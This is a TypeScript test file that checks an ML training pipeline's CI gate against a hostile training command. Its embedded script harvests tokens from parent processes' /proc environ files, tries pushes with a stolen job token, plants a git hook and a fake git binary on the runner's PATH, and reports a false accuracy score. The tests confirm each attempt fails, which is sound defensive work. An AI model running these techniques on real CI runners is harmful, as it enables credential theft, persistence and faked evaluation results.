import {existsSync} from 'node:fs';
import {mkdir, readFile, writeFile} from 'node:fs/promises';
import {dirname, join} from 'node:path';
import {afterAll, beforeAll, expect, test} from 'vitest';
import {parse} from 'yaml';
import type {Evaluation} from '../../src/generated/documents.ts';
import type {Permissions} from '../../src/local/contract.ts';
import {startLocal, type Local} from '../../src/local/start-local.ts';
import {renderTemplates} from '../../src/templates/render-templates.ts';
import {testGit} from '../support/context.ts';
import {smallConfig, smallCsv} from '../support/small-repository.ts';
import {temporaryFolder} from '../support/temporary.ts';

/*
 * Who: the training command, with every package that it pulls in. It trains a model that knows nothing, and wants the gate to pass.
 * What it may reach: all that its machine has: the environment of the process that started it (/proc), hooks and configuration of
 * the clone, the runner's command files, the artifact service of the workflow run.
 * What stops it: its machine has a token that reads and no secret; another machine makes the record of the run anew and scores
 * the model itself. Played with the templates as `cairn init` writes them.
 */
interface Workflow {
  readonly jobs: {readonly train: {readonly permissions: Permissions}};
}

const repository = 'octo/small';
const branch = 'main';

/** Takes the job's tokens from the process above, and uses them; plants hooks and a git; reports a perfect model. */
const trainScript = `
const {execFileSync} = require('node:child_process');
const fs = require('node:fs');
const {join} = require('node:path');
const stolen = {};
for (let pid = process.ppid; pid > 1; ) {
  try {
    for (const pair of fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0')) {
      const [name, ...rest] = pair.split('=');
      if (/TOKEN|KEY|SECRET|FORGED/.test(name)) stolen[name] ??= rest.join('=');
    }
    pid = Number(fs.readFileSync('/proc/' + pid + '/stat', 'utf8').split(') ')[1].split(' ')[1]);
  } catch { break; }
}
const say = (name, value) => fs.appendFileSync(process.env.HOME + '/seen', name + ': ' + value + '\\n');
say('INPUT_TOKEN', stolen.INPUT_TOKEN ? 'yes' : 'no');
say('SIGNING_KEY', stolen.CAIRN_SIGNING_KEY ? 'yes' : 'no');

// a. The token of the job, however it may be found: it is asked for by the checkout.
const token = fs.readFileSync(process.env.HOME + '/job-token', 'utf8');
const attempt = (name, ...args) => {
  try {
    execFileSync('git', ['-c', 'http.extraheader=AUTHORIZATION: basic ' + Buffer.from('x-access-token:' + token).toString('base64'), ...args], {stdio: 'pipe'});
    say(name, 'done');
  } catch (error) { say(name, 'refused'); }
};
attempt('push of a tag', 'push', 'origin', 'HEAD:refs/tags/small@v9.9.9');
attempt('push of a record', 'push', 'origin', 'HEAD:refs/cairn/runs/small-000000000000');
attempt('push of a branch', 'push', 'origin', 'HEAD:refs/heads/evil');

// b. Hooks of the clone: whoever runs git here next runs them.
fs.mkdirSync('.git/hooks', {recursive: true});
fs.writeFileSync('.git/hooks/reference-transaction', '#!/bin/sh\\nenv > "$HOME/hook-ran"\\n', {mode: 0o755});

// c. The runner's own files: the next step finds this git first.
const bin = join(process.env.RUNNER_TEMP, 'bin');
fs.mkdirSync(bin, {recursive: true});
fs.writeFileSync(join(bin, 'git'), '#!/bin/sh\\necho ran >> "$HOME/false-git-ran"\\nPATH=$(echo "$PATH" | cut -d: -f2-) exec git "$@"\\n', {mode: 0o755});
const files = join(process.env.RUNNER_TEMP, '_runner_file_commands');
for (const name of fs.readdirSync(files)) if (name.startsWith('path_')) fs.appendFileSync(join(files, name), bin + '\\n');

// A model that knows nothing, and a report that it knows everything.
const model = join(process.env.CAIRN_OUTPUT, 'model');
fs.mkdirSync(model, {recursive: true});
fs.writeFileSync(join(model, 'model.json'), JSON.stringify({
  format: 'layers-model', generatedBy: 'x', convertedBy: null,
  modelTopology: {class_name: 'Sequential', config: {name: 's', layers: [{class_name: 'Dense', config: {name: 'd', units: 1, activation: 'sigmoid', use_bias: true, trainable: true, dtype: 'float32', batch_input_shape: [null, 1]}}]}},
  weightsManifest: [{paths: ['weights.bin'], weights: [{name: 'd/kernel', shape: [1, 1], dtype: 'float32'}, {name: 'd/bias', shape: [1], dtype: 'float32'}]}],
}));
fs.writeFileSync(join(model, 'weights.bin'), Buffer.alloc(8));
fs.writeFileSync(join(process.env.CAIRN_OUTPUT, 'metrics.json'), JSON.stringify({roc_auc: 0.993}));
`;

const config = smallConfig
  .replace('features: [amount, country]', 'features: [amount]')
  .replace(
    /train: .*\n/,
    'train: {trainer: command, command: [node, train.cjs], format: tensorflow, model: model, metrics: metrics.json}\n',
  )
  .replace('minimum: 0.6', 'minimum: 0.95')
  .replace('        target: here\n', '');

let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let local: Local;
let git: ReturnType<typeof testGit>;
let home: string;

beforeAll(async () => {
  folder = await temporaryFolder();
  home = join(folder.path, 'home');
  await mkdir(home);
  local = await startLocal({
    directory: join(folder.path, 'forge'),
    repository,
    defaultBranch: branch,
    home,
  });
  const clone = join(folder.path, 'clone');
  const files: Record<string, string> = {
    ...Object.fromEntries(await renderTemplates({model: 'small', branch, pin: 'a'.repeat(40)})),
    'cairn.yaml': config,
    'train.cjs': trainScript,
    'data/2024-01.csv': smallCsv(600),
    '.gitignore': '.cairn/\n',
  };
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(clone, path)), {recursive: true});
    await writeFile(join(clone, path), text);
  }
  git = testGit(clone, {server: local.forge.serverUrl, token: local.personToken('dana')});
  await git.run(['init', '--quiet', '--initial-branch', branch]);
  await git.run(['remote', 'add', 'origin', `${local.forge.serverUrl}/${repository}`]);
  // What a thief of the token of this job would hold, wherever on its machine it was found.
  const {permissions} = (parse(files['.github/workflows/train-model.yml'] ?? '') as Workflow).jobs.train;
  const token = local.forge.issueToken({
    repository,
    actor: 'github-actions[bot]',
    kind: 'workflow',
    permissions,
  });
  await writeFile(join(home, 'job-token'), token);
  await git.run(['add', '--all']);
  await git.run(['commit', '--quiet', '-m', 'A model that knows nothing']);
  await git.run(['push', '--quiet', 'origin', `HEAD:refs/heads/${branch}`]);
  await local.runner.idle();
  await git.run(['fetch', '--quiet', 'origin', '+refs/*:refs/seen/*']);
}, 120_000);

afterAll(async () => {
  await local[Symbol.asyncDispose]();
  await folder[Symbol.asyncDispose]();
});

test('the gate judges what the model can do, not what its training said', async () => {
  const response = await fetch(
    `${local.forge.apiUrl}/repos/${repository}/commits/cairn%2Fsmall%2Fproduction/status`,
    {headers: {authorization: `Bearer ${local.personToken('rae')}`}},
  );
  const {statuses} = (await response.json()) as {statuses: {context: string; state: string}[]};
  expect(statuses.map(({context, state}) => ({context, state}))).toEqual([
    {context: 'cairn/gate', state: 'failure'},
  ]);
  const [ref = ''] = (await git.run(['for-each-ref', '--format=%(refname)', 'refs/seen/cairn/runs'])).split(
    '\n',
  );
  const document = async (name: string): Promise<unknown> =>
    JSON.parse(await git.run(['show', `${ref}:${name}`]));
  const evaluation = (await document('evaluation.json')) as Evaluation;
  expect(evaluation.metrics.find(({name}) => name === 'roc_auc')?.value).toBe(0.5);
  expect(await document('run.json')).toMatchObject({
    metrics: {roc_auc: 0.993},
    reported: ['seconds', 'metrics', 'environment.training'],
    startedBy: 'dana',
  });
});

test('nothing that the training found lets it write', async () => {
  expect((await readFile(join(home, 'seen'), 'utf8')).trim().split('\n')).toEqual([
    'INPUT_TOKEN: no',
    'SIGNING_KEY: no',
    'push of a tag: refused',
    'push of a record: refused',
    'push of a branch: refused',
  ]);
  const refs = await git.run(['for-each-ref', '--format=%(refname)', 'refs/seen']);
  expect(refs.split('\n').map((ref) => ref.replace(/small-[0-9a-f]{12}/, 'small-RUN'))).toEqual([
    'refs/seen/cairn/runs/small-RUN',
    'refs/seen/cairn/versions/small/0.0.1',
    'refs/seen/heads/cairn-versions/small/0.0.1',
    'refs/seen/heads/cairn/small/production',
    'refs/seen/heads/main',
    'refs/seen/pull/1/head',
    'refs/seen/pull/1/merge',
    'refs/seen/tags/small@v0.0.1',
  ]);
});

test('what it planted on its machine did not reach the one that evaluates', async () => {
  const ran = await readFile(join(home, 'false-git-ran'), 'utf8').catch(() => '');
  expect(ran).toBe('');
  expect(existsSync(join(home, 'hook-ran'))).toBe(false);
});
